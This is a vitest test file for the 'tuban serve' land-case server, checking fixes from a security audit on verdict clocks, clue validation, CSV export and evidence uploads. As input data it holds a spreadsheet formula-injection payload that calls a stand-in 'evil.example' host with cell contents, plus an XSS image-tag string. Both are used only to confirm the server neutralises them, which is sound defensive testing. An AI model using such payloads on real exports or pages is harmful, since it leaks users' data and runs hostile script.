/**
 * What an audit of `tuban serve` found a bureau or district user could do to the record, and what
 * they can no longer do: reset an overdue case's clock by flipping its verdict, write clues into a
 * past or future month's ledger (or an unknown district, or a province-sized outline), plant a
 * spreadsheet formula in the lead bureau's CSV ledger, and leave a refused upload on disk. On a real
 * database (PGlite here; PostgreSQL under `npm test`), through the app `tuban serve` runs.
 */
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Database } from '../pipeline/store/queryable.js';
import { addUsers, jpegWithExif, openTestDatabase, polygon, square, testApp, writeBatch, type TestApp } from './testing/fixtures.js';

let db: Database;
let t: TestApp;
const P_FLIP = '370102-202610-0001';
const P_PARTY = '370102-202610-0002';
const P_DONE = '370102-202610-0003';

beforeAll(async () => {
  db = await openTestDatabase();
  await writeBatch(
    db,
    'b-2026-10',
    '2026-10',
    [polygon(P_FLIP, '2026-10', square(117.0, 36.6)), polygon(P_PARTY, '2026-10', square(117.01, 36.6)), polygon(P_DONE, '2026-10', square(117.02, 36.6))],
    '2026-11-02',
  );
  await addUsers(db, [
    ['nr', 'bureau', 'natural_resources'],
    ['d102', 'district', '370102'],
    ['chief', 'lead'],
  ]);
  t = await testApp(db);
}, 120_000);

afterAll(async () => {
  await t?.app.close();
  await db?.close();
});

async function call(user: string, method: 'GET' | 'POST', url: string, payload?: unknown) {
  return t.app.inject({ method, url, headers: { authorization: `Bearer ${await t.token(user)}` }, ...(payload !== undefined ? { payload: payload as object } : {}) });
}

const count = async (sql: string) => (await db.query<{ n: number }>(sql)).rows[0].n;

describe('a verdict flipped away and back', () => {
  it('keeps the rectification clock it started first, so an overdue case stays overdue', async () => {
    t.setToday('2026-11-03');
    await call('nr', 'POST', `/api/polygons/${P_FLIP}/accept`, {});
    const first = (await call('nr', 'POST', `/api/polygons/${P_FLIP}/verdict`, { verdict: 'illegal', violation_type: 'illegal_occupation' })).json().case;
    expect(first.due_rule).toBe('rectification');
    const due = first.due_date as string;
    t.setToday('2026-12-01');
    expect(due < '2026-12-01').toBe(true);
    expect((await call('chief', 'GET', `/api/polygons/${P_FLIP}`)).json().properties.overdue).toBe(true);

    // Away: the verification clock runs from the day the case was issued (end of that month), not from today.
    const other = (await call('nr', 'POST', `/api/polygons/${P_FLIP}/verdict`, { verdict: 'other', situation: 'seasonal', reason: '季节性' })).json().case;
    expect(other).toMatchObject({ due_rule: 'verification', due_date: '2026-11-30' });
    expect((await call('chief', 'GET', `/api/polygons/${P_FLIP}`)).json().properties.overdue).toBe(true);

    // And back: the first rectification due date, not 15 working days from today.
    const again = (await call('nr', 'POST', `/api/polygons/${P_FLIP}/verdict`, { verdict: 'illegal', violation_type: 'illegal_occupation' })).json().case;
    expect(again).toMatchObject({ due_rule: 'rectification', due_date: due });
    const card = (await call('chief', 'GET', `/api/polygons/${P_FLIP}`)).json();
    expect(card.properties.overdue).toBe(true);
    await call('chief', 'POST', '/api/sweep', {});
    expect(await count(`SELECT count(*)::int AS n FROM escalations WHERE code = '${P_FLIP}' AND kind = 'overdue' AND rule = 'rectification'`)).toBe(1);
    t.setToday('2026-11-03');
  });
});

describe('clues', () => {
  const point = { type: 'Point', coordinates: [117.1, 36.65] };
  const clue = (extra: Record<string, unknown>) => ({ source: 'patrol', district_code: '370102', geometry: point, description: '巡查发现', ...extra });
  const refused = async (user: string, body: unknown) => {
    const r = await call(user, 'POST', '/api/clues', body);
    return [r.statusCode, r.json().code];
  };

  it('are reported on a day from the start of last month to today, and land in that month', async () => {
    const before = await count('SELECT count(*)::int AS n FROM clues');
    expect(await refused('d102', clue({ reported_on: '2026-11-04' }))).toEqual([400, 'CLUE.BAD_DATE']);
    expect(await refused('d102', clue({ reported_on: '2099-12-31' }))).toEqual([400, 'CLUE.BAD_DATE']);
    expect(await refused('d102', clue({ reported_on: '2026-09-30' }))).toEqual([400, 'CLUE.BAD_DATE']);
    expect(await refused('d102', clue({ reported_on: '2026-02-30' }))).toEqual([400, 'VALIDATION']);
    expect(await count('SELECT count(*)::int AS n FROM clues')).toBe(before);
    const late = await call('d102', 'POST', '/api/clues', clue({ reported_on: '2026-10-01' }));
    expect(late.statusCode, late.body).toBe(201);
    expect(late.json().code).toBe('370102-202610-X0001');
  });

  it('name a district a batch or a user knows, by the name its district layer gives', async () => {
    expect(await refused('nr', clue({ district_code: '999999' }))).toEqual([400, 'CLUE.UNKNOWN_DISTRICT']);
    expect(await refused('d102', clue({ district_name: '<img src=x onerror=alert(1)>' }))).toEqual([400, 'VALIDATION']);
    const r = await call('nr', 'POST', '/api/clues', clue({}));
    expect(r.statusCode, r.body).toBe(201);
    const row = await db.query<{ district_name: string }>('SELECT district_name FROM clues WHERE code = $1', [r.json().code]);
    const layer = await db.query<{ district_name: string }>(`SELECT district_name FROM polygons WHERE district_code = '370102' LIMIT 1`);
    expect(row.rows[0].district_name).toBe(layer.rows[0].district_name);
  });

  it('are one site: a province-sized outline and an open ring are refused', async () => {
    const before = await count('SELECT count(*)::int AS n FROM clues');
    const huge = { type: 'Polygon', coordinates: [[[0, 0], [179, 0], [179, 89], [0, 89], [0, 0]]] };
    expect(await refused('nr', clue({ geometry: huge }))).toEqual([400, 'CLUE.TOO_LARGE']);
    const open = { type: 'Polygon', coordinates: [[[117.1, 36.65], [117.101, 36.65], [117.101, 36.651], [117.1, 36.651]]] };
    expect(await refused('nr', clue({ geometry: open }))).toEqual([400, 'VALIDATION']);
    expect(await count('SELECT count(*)::int AS n FROM clues')).toBe(before);
  });
});

describe('the CSV ledger', () => {
  it('shows a party typed as a formula as text, not as a formula Excel would run', async () => {
    const party = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")';
    await call('nr', 'POST', `/api/polygons/${P_PARTY}/accept`, {});
    const v = await call('nr', 'POST', `/api/polygons/${P_PARTY}/verdict`, { verdict: 'illegal', violation_type: 'illegal_occupation', party });
    expect(v.statusCode, v.body).toBe(200);
    const csv = (await call('chief', 'GET', '/api/ledger/2026-10.csv')).rawPayload.toString('utf8');
    const line = csv.split('\r\n').find((l) => l.includes(P_PARTY))!;
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""点击查看"")"`);
    expect(line).not.toMatch(/,"?=HYPERLINK/);
  });
});

describe('evidence refused for the state of the case', () => {
  it('leaves no file behind', async () => {
    await call('nr', 'POST', `/api/polygons/${P_DONE}/accept`, {});
    await call('nr', 'POST', `/api/polygons/${P_DONE}/verdict`, { verdict: 'legal', approval_doc_no: '济自然规划批〔2026〕7号' });
    await call('nr', 'POST', `/api/polygons/${P_DONE}/close`, { reason: '合法用地' });
    expect((await call('chief', 'POST', `/api/polygons/${P_DONE}/review`, { approve: true })).json().case.status).toBe('reviewed');
    const r = await t.app.inject({
      method: 'POST',
      url: `/api/polygons/${P_DONE}/evidence?name=late.jpg`,
      headers: { authorization: `Bearer ${await t.token('nr')}`, 'content-type': 'image/jpeg' },
      payload: jpegWithExif({ taken: '2026:11:05 09:12:30', lat: 36.6, lon: 117.02, azimuth: 10 }),
    });
    expect([r.statusCode, r.json().code]).toEqual([409, 'CASE.BAD_STATE']);
    const dirs = await readdir(join(t.dataDir, 'evidence')).catch(() => []);
    expect(dirs).toEqual([]);
  });
});

describe('confirming an outline', () => {
  it('is refused while no batch has changed it, and changes nothing', async () => {
    const before = (await call('chief', 'GET', `/api/polygons/${P_PARTY}`)).json().case;
    expect(before.geometry_changed).toBe(false);
    const r = await call('chief', 'POST', `/api/polygons/${P_PARTY}/confirm-geometry`, {});
    expect([r.statusCode, r.json().code]).toEqual([409, 'CASE.GEOMETRY_UNCHANGED']);
    expect((await call('chief', 'GET', `/api/polygons/${P_PARTY}`)).json().case.version).toBe(before.version);
  });
});
